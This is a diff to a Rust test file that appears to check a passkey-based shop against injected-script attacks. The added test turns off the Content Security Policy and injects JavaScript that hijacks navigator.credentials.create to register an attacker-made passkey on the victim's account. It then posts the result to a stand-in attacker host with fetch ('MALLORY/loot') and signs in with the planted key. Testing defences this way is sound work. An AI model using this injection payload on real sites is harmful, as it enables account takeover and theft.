@@ -5,6 +5,7 @@ use passkey_accounts::{
     protocol::gateway::ServerMessage,
 };
 use passkey_accounts_tests::{
+    SoftwareAuthenticator,
     chromium::{Chromium, Page},
     shop::{Build, Carried, Person, Shop},
 };
@@ -193,6 +194,52 @@ async fn an_injected_script_has_the_person_sign_in_for_the_attacker() {
         };
         let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
         acted(&shop, &victim.name, "a session that outlives the page", answer.status.to_string())
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn an_injected_script_has_the_person_vouch_for_a_passkey_of_the_attackers() {
+    let browser = Chromium::launch().await.unwrap();
+    attack("vouchedForAttacker", async |build| {
+        let _down = without(Defence::ContentSecurityPolicy);
+        let shop = Shop::open(build).await;
+        let victim = Victim::sign_up(&browser, &shop).await;
+        // Made at the attacker's: a new passkey signs nothing, so the script only puts the challenge of the day under it.
+        let mut own = SoftwareAuthenticator::default();
+        own.sends_user_handle = false;
+        let options = json!({
+            "rp": { "id": shop.host, "name": "Shop" }, "user": { "id": "AQ", "name": "", "displayName": "" },
+            "challenge": "AAAA", "pubKeyCredParams": [{ "type": "public-key", "alg": -7 }],
+            "authenticatorSelection": { "residentKey": "discouraged", "userVerification": "required" },
+        });
+        let made = own.register(&options.to_string(), &shop.origin).unwrap();
+        let script = format!(
+            "const base64url = {{ alphabet: 'base64url', omitPadding: true }};
+             navigator.credentials.create = async ({{ publicKey }}) => {{
+                 const challenge = new Uint8Array(publicKey.challenge).toBase64(base64url);
+                 const data = {{ type: 'webauthn.create', challenge, origin: location.origin, crossOrigin: false }};
+                 const made = {made};
+                 made.response.clientDataJSON = new TextEncoder().encode(JSON.stringify(data)).toBase64(base64url);
+                 return {{ toJSON: () => made }};
+             }};
+             const said = await shop.client.state.session.passkeys.add().then(() => 'added', (error) => error.message);
+             fetch('MALLORY/loot', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify({{ said }}) }});"
+        );
+        let mut mallory = Mallory::start("", &script).await;
+        follow_with_passkey(&victim, &browser, &shop, &mallory).await;
+        let said = mallory.loot().await;
+        let mut thief = shop.connect_page().await;
+        let ceremony = thief.begin_sign_in(ADA).await;
+        let Ok(credential) = own.sign_in(&ceremony.public_key.0, &shop.origin) else {
+            return held(said["said"].to_string());
+        };
+        let ServerMessage::SignedIn(signed_in) = thief.finish(&ceremony, credential).await else {
+            return held("the passkey signs nobody in");
+        };
+        let stolen = Carried::Page(Box::new(thief), signed_in.session);
+        let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
+        acted(&shop, &victim.name, "its passkey signs in whenever it likes", answer.status.to_string())
     })
     .await;
 }
